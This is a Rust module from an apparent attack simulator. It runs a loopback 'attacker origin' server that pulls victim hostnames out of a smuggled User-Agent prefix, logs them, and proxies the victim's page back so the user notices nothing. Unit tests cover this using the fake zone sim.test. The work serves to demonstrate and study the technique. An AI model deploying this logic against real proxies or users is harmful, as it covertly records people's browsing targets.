//! Plain-HTTP origin standing in for the attacker's customer account.
//!
//! The edge proxies requests for the attacker's domain here. The origin
//! recovers the victim hostname that the client-side rewrite stashed in
//! the leading bytes of the User-Agent header, logs it, and proxies the
//! victim's content back so the browser sees the page it asked for.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::{self, JoinHandle};
use std::time::Duration;

use super::SimulatorError;

/// Fetches the victim's real content for (host, path); the demo wires
/// this back through the edge so the whole loop stays on loopback.
pub type ContentFetcher =
    Arc<dyn Fn(&str, &str) -> Result<(u16, Vec<u8>), String> + Send + Sync>;

pub struct AttackerOrigin {
    pub addr: SocketAddr,
    recovered: Arc<Mutex<Vec<String>>>,
    stop: Arc<AtomicBool>,
    accept_thread: Option<JoinHandle<()>>,
}

impl AttackerOrigin {
    /// Victim hostnames recovered from User-Agent prefixes, in arrival
    /// order. This is the attacker's "log" from the write-up.
    pub fn recovered_hosts(&self) -> Vec<String> {
        self.recovered.lock().expect("origin log lock").clone()
    }

    pub fn shutdown(mut self) {
        self.stop_and_join();
    }

    fn stop_and_join(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(handle) = self.accept_thread.take() {
            let _ = handle.join();
        }
    }
}

impl Drop for AttackerOrigin {
    fn drop(&mut self) {
        self.stop_and_join();
    }
}

fn find_subsequence(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

// The rewrite replaces the Host value with an equal-length attacker
// hostname, so the original is always label-dot-zone with a 14-char
// label; anything else in the User-Agent prefix is not ours.
fn extract_victim_host(user_agent: &str, zone: &str) -> Option<String> {
    let host_len = 14 + 1 + zone.len();
    if user_agent.len() < host_len {
        return None;
    }
    let prefix = &user_agent[..host_len];
    let label = prefix.strip_suffix(zone)?.strip_suffix('.')?;
    if label.len() == 14 && label.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit()) {
        Some(prefix.to_string())
    } else {
        None
    }
}

fn handle_connection(
    mut sock: TcpStream,
    zone: &str,
    recovered: &Mutex<Vec<String>>,
    fetch: &ContentFetcher,
) {
    let _ = sock.set_read_timeout(Some(Duration::from_secs(10)));
    let _ = sock.set_write_timeout(Some(Duration::from_secs(10)));
    let mut raw = Vec::new();
    let mut buf = [0u8; 8192];
    let head_end = loop {
        if let Some(pos) = find_subsequence(&raw, b"\r\n\r\n") {
            break pos + 4;
        }
        if raw.len() > 16 * 1024 {
            return;
        }
        match sock.read(&mut buf) {
            Ok(0) | Err(_) => return,
            Ok(n) => raw.extend_from_slice(&buf[..n]),
        }
    };
    let mut headers = [httparse::EMPTY_HEADER; 64];
    let mut request = httparse::Request::new(&mut headers);
    if !matches!(request.parse(&raw[..head_end]), Ok(httparse::Status::Complete(_))) {
        return;
    }
    let path = request.path.unwrap_or("/").to_string();
    let user_agent = request
        .headers
        .iter()
        .find(|h| h.name.eq_ignore_ascii_case("user-agent"))
        .map(|h| String::from_utf8_lossy(h.value).to_string())
        .unwrap_or_default();

    let (status, body) = match extract_victim_host(&user_agent, zone) {
        Some(victim_host) => {
            recovered.lock().expect("origin log lock").push(victim_host.clone());
            match fetch(&victim_host, &path) {
                Ok(result) => result,
                Err(message) => (502, format!("victim fetch failed: {message}").into_bytes()),
            }
        }
        None => (502, b"no victim host in user-agent".to_vec()),
    };
    let reason = match status {
        200 => "OK",
        502 => "Bad Gateway",
        _ => "",
    };
    let head = format!(
        "HTTP/1.1 {status} {reason}\r\nServer: attacker-origin\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    let _ = sock.write_all(head.as_bytes()).and_then(|()| sock.write_all(&body));
}

/// Starts the attacker origin on 127.0.0.1 with an OS-picked port.
pub fn start_attacker_origin(
    zone: &str,
    fetch: ContentFetcher,
) -> Result<AttackerOrigin, SimulatorError> {
    let listener = TcpListener::bind("127.0.0.1:0").map_err(SimulatorError::Io)?;
    let addr = listener.local_addr().map_err(SimulatorError::Io)?;
    listener.set_nonblocking(true).map_err(SimulatorError::Io)?;

    let recovered = Arc::new(Mutex::new(Vec::new()));
    let stop = Arc::new(AtomicBool::new(false));
    let zone = zone.to_ascii_lowercase();
    let accept_thread = {
        let recovered = recovered.clone();
        let stop = stop.clone();
        thread::spawn(move || loop {
            if stop.load(Ordering::SeqCst) {
                return;
            }
            match listener.accept() {
                Ok((sock, _)) => handle_connection(sock, &zone, &recovered, &fetch),
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                    thread::sleep(Duration::from_millis(2));
                }
                Err(_) => return,
            }
        })
    };
    Ok(AttackerOrigin { addr, recovered, stop, accept_thread: Some(accept_thread) })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn victim_host_extraction_requires_the_expected_shape() {
        assert_eq!(
            extract_victim_host("abcdefgh123456.sim.test rest-of-ua", "sim.test"),
            Some("abcdefgh123456.sim.test".to_string())
        );
        // Uppercase, wrong label length, wrong zone: all refused.
        assert_eq!(extract_victim_host("ABCDEFGH123456.sim.test x", "sim.test"), None);
        assert_eq!(extract_victim_host("short.sim.test Mozilla/5.0", "sim.test"), None);
        assert_eq!(extract_victim_host("abcdefgh123456.other.test", "sim.test"), None);
        assert_eq!(extract_victim_host("Mozilla/5.0", "sim.test"), None);
    }

    #[test]
    fn origin_logs_and_serves_fetched_content() {
        let fetch: ContentFetcher = Arc::new(|host, path| {
            Ok((200, format!("content-for {host}{path}").into_bytes()))
        });
        let origin = start_attacker_origin("sim.test", fetch).unwrap();
        let mut sock = TcpStream::connect(origin.addr).unwrap();
        sock.write_all(
            b"GET /page HTTP/1.1\r\nHost: attacker0000000.sim.test\r\n\
              User-Agent: abcdefgh123456.sim.test Firefox/104.0\r\nConnection: close\r\n\r\n",
        )
        .unwrap();
        let mut response = Vec::new();
        sock.read_to_end(&mut response).unwrap();
        let text = String::from_utf8_lossy(&response);
        assert!(text.starts_with("HTTP/1.1 200 OK"), "got: {text}");
        assert!(text.contains("content-for abcdefgh123456.sim.test/page"));
        assert_eq!(origin.recovered_hosts(), vec!["abcdefgh123456.sim.test".to_string()]);
        origin.shutdown();
    }

    #[test]
    fn origin_rejects_requests_without_an_embedded_host() {
        let fetch: ContentFetcher = Arc::new(|_, _| Ok((200, b"never".to_vec())));
        let origin = start_attacker_origin("sim.test", fetch).unwrap();
        let mut sock = TcpStream::connect(origin.addr).unwrap();
        sock.write_all(
            b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n",
        )
        .unwrap();
        let mut response = Vec::new();
        sock.read_to_end(&mut response).unwrap();
        assert!(String::from_utf8_lossy(&response).starts_with("HTTP/1.1 502"));
        assert!(origin.recovered_hosts().is_empty());
    }
}
